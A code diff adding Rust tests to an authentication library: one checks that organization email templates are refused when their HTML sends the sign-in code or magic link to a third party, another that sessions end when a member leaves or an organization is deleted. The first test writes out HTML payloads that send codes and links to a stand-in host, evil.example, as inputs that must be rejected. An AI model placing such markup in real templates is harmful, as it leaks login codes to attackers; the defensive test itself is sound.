@@ -1202,4 +1202,74 @@ async fn an_organizations_own_templates_and_name_reach_its_messages() {
         h.auth.orgs().create(new).await,
         Err(Error::InvalidInput { .. })
     ));
+    // An organization's HTML may not carry a code or link off to a third party.
+    let html = |kind, body: &str, n: usize| {
+        let mut settings = latchkey::OrgSettings::default();
+        settings.templates = vec![latchkey::directory::TemplateOverride::new(
+            kind,
+            None,
+            latchkey::Template::new("Sign in", "{{code}}{{link}}", Some(body.to_owned())),
+        )];
+        let mut new = latchkey::NewOrg::new("Html", format!("html-{n}"));
+        new.settings = settings;
+        new
+    };
+    for (kind, body) in [
+        (
+            MessageKind::EmailCode,
+            r#"<img src="https://evil.example/?c={{code}}">"#,
+        ),
+        (
+            MessageKind::MagicLink,
+            r#"<a href="https://evil.example/?l={{link}}">x</a>"#,
+        ),
+        (MessageKind::MagicLink, r#"<img src="{{link}}">"#),
+    ] {
+        let refused = h.auth.orgs().create(html(kind, body, 0)).await;
+        assert!(
+            matches!(refused, Err(Error::InvalidInput { .. })),
+            "{body}: {refused:?}"
+        );
+    }
+    for (n, (kind, body)) in [
+        (MessageKind::EmailCode, "<p>Your code: <b>{{code}}</b></p>"),
+        (
+            MessageKind::MagicLink,
+            r#"<p><a href="{{link}}">Sign in</a></p>"#,
+        ),
+    ]
+    .into_iter()
+    .enumerate()
+    {
+        h.auth.orgs().create(html(kind, body, n + 1)).await.unwrap();
+    }
+}
+
+#[tokio::test]
+async fn leaving_or_losing_an_organization_ends_the_sessions_in_it() {
+    let h = harness();
+    let acme = org(&h, "acme").await;
+    let globex = org(&h, "globex").await;
+    let ana = member(&h, "ana@example.com", acme).await;
+    h.auth
+        .rbac()
+        .set_roles(ana, globex, &[], &ctx())
+        .await
+        .unwrap();
+    let in_acme = sign_in(&h, ana, Some(acme)).await;
+    let in_globex = sign_in(&h, ana, Some(globex)).await;
+    let outside = sign_in(&h, ana, None).await;
+    let live = |set: &TokenSet| {
+        let token = set.access_token.secret().to_owned();
+        let auth = h.auth.clone();
+        async move { auth.tokens().verify_live(&token).await.is_ok() }
+    };
+
+    assert!(h.auth.rbac().remove_member(ana, acme).await.unwrap());
+    assert!(!live(&in_acme).await, "she left Acme");
+    assert!(live(&in_globex).await && live(&outside).await);
+
+    h.auth.orgs().delete(globex).await.unwrap();
+    assert!(!live(&in_globex).await, "Globex is gone");
+    assert!(live(&outside).await, "her own session stays");
 }
